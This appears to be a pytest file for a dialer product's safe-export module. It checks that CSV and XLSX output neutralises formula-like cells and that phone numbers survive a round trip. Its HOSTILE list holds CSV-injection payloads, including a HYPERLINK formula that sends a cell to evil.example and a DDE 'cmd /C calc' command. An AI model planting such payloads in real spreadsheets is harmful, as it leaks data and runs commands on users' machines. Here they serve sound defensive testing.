"""Safe exports: no cell the product writes, in CSV or XLSX, runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from dialer.safe_export import (
    column_letter,
    csv_line,
    csv_text,
    csv_writer,
    is_formula_like,
    neutralise,
    write_xlsx,
    xlsx_bytes,
)
from dnc.numbers import normalise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote_in_csv(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "0987654321", "84987654321", "a=b", "x+1", "", "2026-12-06"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralise(text) == text


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert neutralise(-5) == -5
    assert neutralise(2.5) == 2.5
    assert neutralise(True) is True
    assert neutralise(None) == ""
    assert neutralise(dt.date(2026, 12, 6)) == "2026-12-06"


def test_an_e164_number_is_quoted_in_csv_and_the_dnc_import_reads_it_back_as_the_same_number() -> None:
    """Excel evaluates ``+84987654321`` (shown as 84987654321), so it is quoted like any formula."""
    line = csv_line(["+84987654321", "Lan"])
    assert line == "'+84987654321,Lan"
    cell = next(csv.reader(io.StringIO(line)))[0]
    assert normalise(cell) == "+84987654321"


def test_csv_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    w = csv_writer(out, lineterminator="\n")
    w.writerow(["number", "note"])
    w.writerows([["+33612345678", "=1+1"], ["0612345678", "@x"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["number", "note"], ["'+33612345678", "'=1+1"], ["0612345678", "'@x"]]
    assert csv_text([["a"], ["-1"]]) == "a\r\n'-1\r\n"


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=5), max_size=5))
def test_no_csv_cell_ever_starts_like_a_formula(rows: list[list[object]]) -> None:
    text = csv_text(rows)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not is_formula_like(cell) or cell.lstrip("-").isdigit(), cell


def _read_xlsx(data: bytes) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_index(0).to_python()


def test_xlsx_writes_text_as_text_never_a_formula_and_marks_formula_like_text_with_the_quote_prefix() -> None:
    rows = [["number", "name", "note", "calls"], ["+84987654321", "Nguyễn Văn An", HOSTILE[0], 3]]
    data = xlsx_bytes(rows, sheet="Leads")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        styles = zf.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert 'quotePrefix="1"' in styles
    assert sheet.count(' s="1"') == 2  # the number and the hyperlink: shown as written, kept as text
    read = _read_xlsx(data)
    assert read[0] == ["number", "name", "note", "calls"]
    assert read[1][:3] == ["+84987654321", "Nguyễn Văn An", HOSTILE[0]]
    assert read[1][3] == 3


def test_xlsx_keeps_control_characters_and_markup_as_text(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    tricky = ["a<b>&c", "bell\x07", "_x0041_", " padded ", "line\nbreak", 12345678901234567890]
    write_xlsx(path, {"a/b[c]": [tricky], "a/b[c] ": [["second"]]})
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["a_b_c_", "a_b_c_ (2)"]
    got = book.get_sheet_by_index(0).to_python()[0]
    assert got == ["a<b>&c", "bell\x07", "_x0041_", " padded ", "line\nbreak", "12345678901234567890"]


def test_column_letters() -> None:
    assert [column_letter(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]
